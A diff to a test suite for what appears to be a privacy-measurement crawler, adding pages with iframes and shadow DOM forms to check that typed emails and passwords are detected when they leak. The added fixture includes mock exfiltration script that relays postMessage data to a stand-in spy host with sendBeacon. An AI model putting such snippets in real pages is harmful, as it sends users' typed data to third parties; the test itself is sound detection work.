@@ -62,10 +62,32 @@ async def keys(socket: WebSocket) -> None:
 MASKED = """<!doctype html><link rel=icon href=data:,><form><input name=contact type=email></form>
 <script src=https://replaynook.example/rec.js></script>"""
 
+FRAMED = f"""<!doctype html><link rel=icon href=data:,><iframe src=/own></iframe>
+<iframe src=https://letters.example/sign width=300 height=200></iframe>
+<iframe src=/own style="width:1px;height:1px"></iframe>
+<div id=host></div><script>
+const shadow = document.getElementById('host').attachShadow({{mode: 'open'}});
+shadow.innerHTML = '<form><input name=shaded type=email></form>';
+addEventListener('message', (event) => navigator.sendBeacon('{SPY}/bye', event.data));
+</script>"""
+OWN = "<!doctype html><form><input name=inner type=email><input name=secret type=password></form>"
+SIGN = """<!doctype html><form><input name=theirs type=email><textarea name=chat></textarea></form>
+<script>document.querySelector('input').onchange = (event) => parent.postMessage(event.target.value, '*')</script>"""
+
 SITES = VENDORS | {
     "shop.example": Site(
-        routes={"/": FORMS, "/again": FORMS, "/masked": MASKED, "/join": "joined", "/pay": "paid", "/search": "found"}
+        routes={
+            "/framed": FRAMED,
+            "/own": OWN,
+            "/": FORMS,
+            "/again": FORMS,
+            "/masked": MASKED,
+            "/join": "joined",
+            "/pay": "paid",
+            "/search": "found",
+        }
     ),
+    "letters.example": Site(routes={"/sign": SIGN}),
     "spy.example": Site(
         routes={"/spy.js": script(SPYING), "/p.gif": typed(GIF, "image/gif"), "/bye": typed("", "text/plain")},
         sockets={"/keys": keys},
@@ -75,11 +97,12 @@ SITES = VENDORS | {
 
 @dataclass(frozen=True)
 class Seen:
-    """Three pages of one visit, and what the server was asked for on the first two."""
+    """Four pages of one visit, and what the server was asked for on the first two."""
 
     first: PageViewRecord
     again: PageViewRecord
     masked: PageViewRecord
+    framed: PageViewRecord
     asked: set[str]
 
 
@@ -91,7 +114,8 @@ async def seen() -> AsyncIterator[Seen]:
             first = await visit.load(f"{SHOP}/", ordinal=1, timeout=15)
             again = await visit.load(f"{SHOP}/again", ordinal=2, timeout=15)
             asked = {entry.path.partition("?")[0] for entry in web.log}
-            yield Seen(first, again, await visit.load(f"{SHOP}/masked", ordinal=3, timeout=15), asked)
+            masked = await visit.load(f"{SHOP}/masked", ordinal=3, timeout=15)
+            yield Seen(first, again, masked, await visit.load(f"{SHOP}/framed", ordinal=4, timeout=15), asked)
 
 
 async def test_each_kind_of_field_gets_a_value_of_its_own(seen: Seen) -> None:
@@ -147,6 +171,19 @@ async def test_a_recorder_that_masks_what_is_typed_sends_none_of_it(seen: Seen) 
     sent = [row.payload for row in seen.masked.messages or () if row.sent]
     assert any('"key"' in payload for payload in sent), "it does watch the keys"
     assert {trace for payload in sent for trace in traces.find(payload)} == set()
+
+
+async def test_forms_in_frames_and_shadows_are_typed_into(seen: Seen) -> None:
+    """Of another company's frame only what asks who one is: what is typed into a chat is shown to somebody."""
+    rows = seen.framed.typed_values or ()
+    assert {(row.field, row.kind, row.frame_url) for row in rows} == {
+        ("shaded", "email", f"{SHOP}/framed"),
+        ("inner", "email", f"{SHOP}/own"),
+        ("secret", "password", f"{SHOP}/own"),
+        ("theirs", "email", "https://letters.example/sign"),
+    }
+    (theirs,) = [row.value for row in rows if row.field == "theirs"]
+    assert any(request.body == theirs for request in seen.framed.requests or ())
 
 
 async def test_switched_off_is_not_observed() -> None:
